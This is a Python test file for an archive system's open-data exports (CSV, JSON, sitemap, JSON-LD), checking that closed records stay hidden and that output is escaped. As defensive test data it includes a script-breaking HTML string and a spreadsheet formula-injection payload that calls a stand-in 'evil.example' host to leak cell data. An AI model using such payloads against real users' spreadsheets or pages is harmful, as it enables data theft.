"""Open data: the open catalogue as CSV and JSON, the portal's sitemap of open records, and schema.org JSON-LD on
each open record's page — never a closed or restricted record."""

from __future__ import annotations

import csv
import io
import json

import pytest
from lxml import etree

from cli.context import AppContext
from tests.transfer_fixtures import described_transfer

ARCHIVAL = (
    "filename,reference,level,parent,dc.title,dc.date,dc.description,closure\n"
    "objects,DRO/52,collection,,Parish of St Michael,1890/1950,Records of the parish </script><b>,\n"
    "objects/documents/,DRO/52/1,series,DRO/52,Vestry papers,1920/1929,,\n"
    "objects/documents/vestry-minutes-1923.pdf,DRO/52/1/1,item,DRO/52/1,Minutes about a parishioner,1995,,"
    "personal-data\n"
)


@pytest.fixture
def archive(preserve, tmp_path, collection):
    transfer = described_transfer(collection, tmp_path / "transfer", ARCHIVAL)
    aip_id = preserve.json("ingest", str(transfer))["aip_id"]
    preserve("access", "set", aip_id, "--path", "photographs", "--restricted", "--reason", "Third parties")
    preserve.aip_id = aip_id
    return preserve


def test_the_open_catalogue_as_csv_and_json_holds_only_open_records(archive, tmp_path):
    rows = list(csv.DictReader(io.StringIO(archive("catalogue", "export").stdout)))
    references = {r["reference"] for r in rows}
    assert {"DRO/52", "DRO/52/1"} <= references and "DRO/52/1/1" not in references  # closed: personal data
    assert not any("parishioner" in r["title"] or r["title"].startswith("harbour") for r in rows)  # restricted too
    top = next(r for r in rows if r["reference"] == "DRO/52")
    assert (top["level"], top["year_start"], top["year_end"]) == ("collection", "1890", "1950")
    assert top["url"] == f"http://127.0.0.1:8000/records/{archive.aip_id}"
    out = tmp_path / "open.json"
    said = archive("catalogue", "export", "--json", "--output", str(out)).stderr
    listed = json.loads(out.read_text())
    assert [r["reference"] for r in listed] == [r["reference"] for r in rows] and f"{len(rows)} open record" in said


def test_the_sitemap_and_json_ld_publish_open_records_only(archive):
    pytest.importorskip("fastapi", reason="the portal needs the web extra")
    from fastapi.testclient import TestClient

    from access.web.app import create_app

    settings = AppContext(home=archive.home, config=archive.home / "preserve.toml").settings
    portal = TestClient(create_app(settings))
    answer = portal.get("/sitemap.xml")
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("application/xml")
    urls = etree.fromstring(answer.content).xpath(
        "//s:loc/text()", namespaces={"s": "http://www.sitemaps.org/schemas/sitemap/0.9"}
    )
    assert f"http://127.0.0.1:8000/records/{archive.aip_id}" in urls
    assert not any("vestry-minutes-1923.pdf" in u or "photographs" in u for u in urls)  # closed, restricted
    assert portal.get("/sitemap-x.xml").status_code == 404

    page = portal.get(f"/records/{archive.aip_id}").text
    assert "Records of the parish &lt;/script&gt;&lt;b&gt;" in page  # the description shown on the page, escaped
    [block] = etree.HTML(page).xpath('//script[@type="application/ld+json"]/text()')
    data = json.loads(block)
    assert (data["@type"], data["identifier"], data["temporalCoverage"]) == ("ArchiveComponent", "DRO/52", "1890/1950")
    assert data["holdingArchive"]["name"] == "Test Archive Service"
    assert data["description"] == "Records of the parish </script><b>" and "</script><b>" not in block  # escaped
    series = json.loads(
        etree.HTML(portal.get(f"/records/{archive.aip_id}/documents").text).xpath(
            '//script[@type="application/ld+json"]/text()'
        )[0]
    )
    assert series["isPartOf"]["identifier"] == "DRO/52"


def test_a_title_a_spreadsheet_would_run_is_written_as_text_in_the_csv(preserve, tmp_path, collection):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    quoted = formula.replace('"', '""')
    transfer = described_transfer(
        collection,
        tmp_path / "transfer",
        f'filename,reference,level,dc.title\nobjects,DRO/53,collection,"{quoted}"\n',
    )
    preserve.json("ingest", str(transfer))
    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(preserve("catalogue", "export").stdout))}
    assert rows["DRO/53"]["title"] == "'" + formula  # shown as text by a spreadsheet, never run
    listed = {r["reference"]: r for r in json.loads(preserve("catalogue", "export", "--json").stdout)}
    assert listed["DRO/53"]["title"] == formula  # the JSON as it is


def test_a_file_described_without_a_unit_of_its_own_is_known_by_its_title_and_date(preserve, tmp_path, collection):
    """A metadata.csv row giving a file a title and date, but no reference code, names and dates its record
    everywhere: search, the record page, JSON-LD, manifests and the open data (the file name and its folder's
    years were used)."""
    transfer = described_transfer(
        collection,
        tmp_path / "transfer",
        "filename,reference,level,parent,dc.title,dc.date\n"
        "objects,DRO/54,collection,,Parish of St Michael,1890/1950\n"
        "objects/photographs/harbour-1923.jpg,,,,The harbour steps at low tide,1923-06\n",
    )
    aip_id = preserve.json("ingest", str(transfer))["aip_id"]
    preserve("access", "set", aip_id, "--open", "--reason", "Public records")
    rows = {r["url"].rsplit("/", 1)[-1]: r for r in json.loads(preserve("catalogue", "export", "--json").stdout)}
    photo = rows["harbour-1923.jpg"]
    assert photo["title"] == "The harbour steps at low tide" and (photo["year_start"], photo["year_end"]) == (
        1923,
        1923,
    )
    church = rows["church-tower.png"]  # no description of its own: its name, and the collection's years
    assert church["title"] == "church-tower.png" and (church["year_start"], church["year_end"]) == (1890, 1950)
    found = preserve.json("search", "harbour steps")["records"]
    assert [r["title"] for r in found] == ["The harbour steps at low tide"]
